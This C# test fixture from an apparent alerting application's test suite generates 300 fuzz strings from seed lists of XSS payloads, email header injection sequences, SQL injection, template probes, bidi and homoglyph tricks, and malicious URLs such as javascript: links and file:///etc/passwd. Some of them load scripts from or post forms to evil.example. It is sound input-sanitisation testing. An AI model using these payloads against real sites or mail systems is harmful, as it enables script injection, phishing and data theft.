namespace SignalWatch.Tests.Alerts;

/// <summary>Titles, names and addresses that are made to break out of wherever they are put.</summary>
internal static class HostileText
{
    private const int Count = 300;

    private static readonly string[] Attacks =
    [
        "<script>alert(1)</script>", "</title><script src=//evil.example></script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)",
        "</style><script>alert(1)</script>", "<style>*{display:none}</style>", "<!--", "-->", "<![CDATA[", "]]>", "<iframe src=https://evil.example>", "<base href=https://evil.example>",
        "<form action=https://evil.example><input name=p>", "</div></div></body></html>", "<a href=\"https://evil.example\">click</a>", "&lt;script&gt;", "&#x3c;script&#62;", "&amp;&&&", "<plaintext>",
        "\r\nBcc: victim@example.net", "\nSubject: other", "\r\n\r\n<html>", "\r\n.\r\nMAIL FROM:<x>", "%0d%0aBcc: victim@example.net", "\u2028Bcc: x\u2029", "\u0085To: x@example.net", "=?utf-8?B?QmNjOiB4?=", "=?utf-8?Q?=0D=0ABcc:_x?=",
        "\u202Etxt.exe\u202C", "\u2066\u2067\u2068", "\u200E\u200F\u061C", "\u202A\u202B\u202D", "\0", "a\0b", "\u0001\u0008\u001B[31m", "\uD800", "\uDC00\uD800", "\uFFFE\uFFFF\uFEFF", "\u00AD\u200B\u2060",
        "--=-boundary", "--\r\nContent-Type: text/html", "Content-Type: text/html\r\n\r\n", "-- \r\n", ".", "From here", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "url(javascript:alert(1))", "expression(alert(1))", "{{7*7}}", "${7*7}", "@import 'https://evil.example'", "\\\"; DROP TABLE analysts; --",
        "Z̸̧̢̛̛̺̺̺̺̺̺̺̀̀̀̀̀̀̀̀̀algo", "שלום עולם", "مرحبا بالعالم", "می‌خواهم", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", "𝕳𝖊𝖆𝖉", "ｆｕｌｌ", "аррӏе", "\u3164\u115F", "\uE000\uF8FF", "漢字漢字", "   ", "\t", "",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "file:///etc/passwd", "ftp://files.example/x", "mailto:x@example.net",
        "//evil.example/x", "/relative", "evil.example", "http://", "https:///x", "http:evil.example", "https://good.example@evil.example/", "https://user:secret@evil.example/", "https://evil.example\\@good.example/",
        "https://evil.example/\r\nBcc: x", "https://evil.example/\" onclick=\"alert(1)", "https://evil.example/'><script>", "https://evil.example/<b>", "https://evil.example/\u202Egpj.exe", "https://evil.example/a b", "https://evil.example/\0",
        "https://аррӏе.example/", "https://gооgle.example/", "https://ɡoogle.example/", "https://пример.рф/", "https://münchen.example/", "https://xn--80ak6aa92e.example/", "https://xn--zzzzzz999.example/", "https://例え.テスト/", "https://[::1]/", "https://127.0.0.1/x", "https://2130706433/",
        "https://evil.example:99999/", "https://evil.example:8443/x", "https://good.example/path?a=1&b=%3Cscript%3E#frag", "HTTPS://GOOD.EXAMPLE/Path", "https://good.example/../x", "https://ｇｏｏｄ.example/", "https://good。example/", "https://-bad-.example/", "https://\uD800.example/", "https://good.example/\uD800", "",
    ];

    /// <summary>300 different texts: each attack alone, then joined with others, nested, repeated and drawn out to 10 KB.</summary>
    public static IReadOnlyList<string> Texts { get; } = Made(Attacks, (random, one, other) => random.Next(4) switch
    {
        0 => $"Talks go on {one} in the {other} capital",
        1 => one + other + one,
        2 => string.Concat(Enumerable.Repeat(one + " " + other, 10_000 / (one.Length + other.Length + 1))),
        _ => $"{other}\r\n {one}",
    });

    /// <summary>300 different addresses.</summary>
    public static IReadOnlyList<string> Urls { get; } = Made(Addresses, (random, one, other) => random.Next(4) switch
    {
        0 => $"{one}/{other}",
        1 => $"{one}?next={other}&x=<\"'>",
        2 => $"{one}{Attacks[random.Next(Attacks.Length)]}",
        _ => one + new string('a', random.Next(3000)),
    });

    private static List<string> Made(string[] seeds, Func<Random, string, string, string> join)
    {
        var random = new Random(20250613);
        var made = new HashSet<string>(seeds, StringComparer.Ordinal);
        while (made.Count < Count)
        {
            made.Add(join(random, seeds[random.Next(seeds.Length)], seeds[random.Next(seeds.Length)]));
        }

        return [.. made];
    }
}
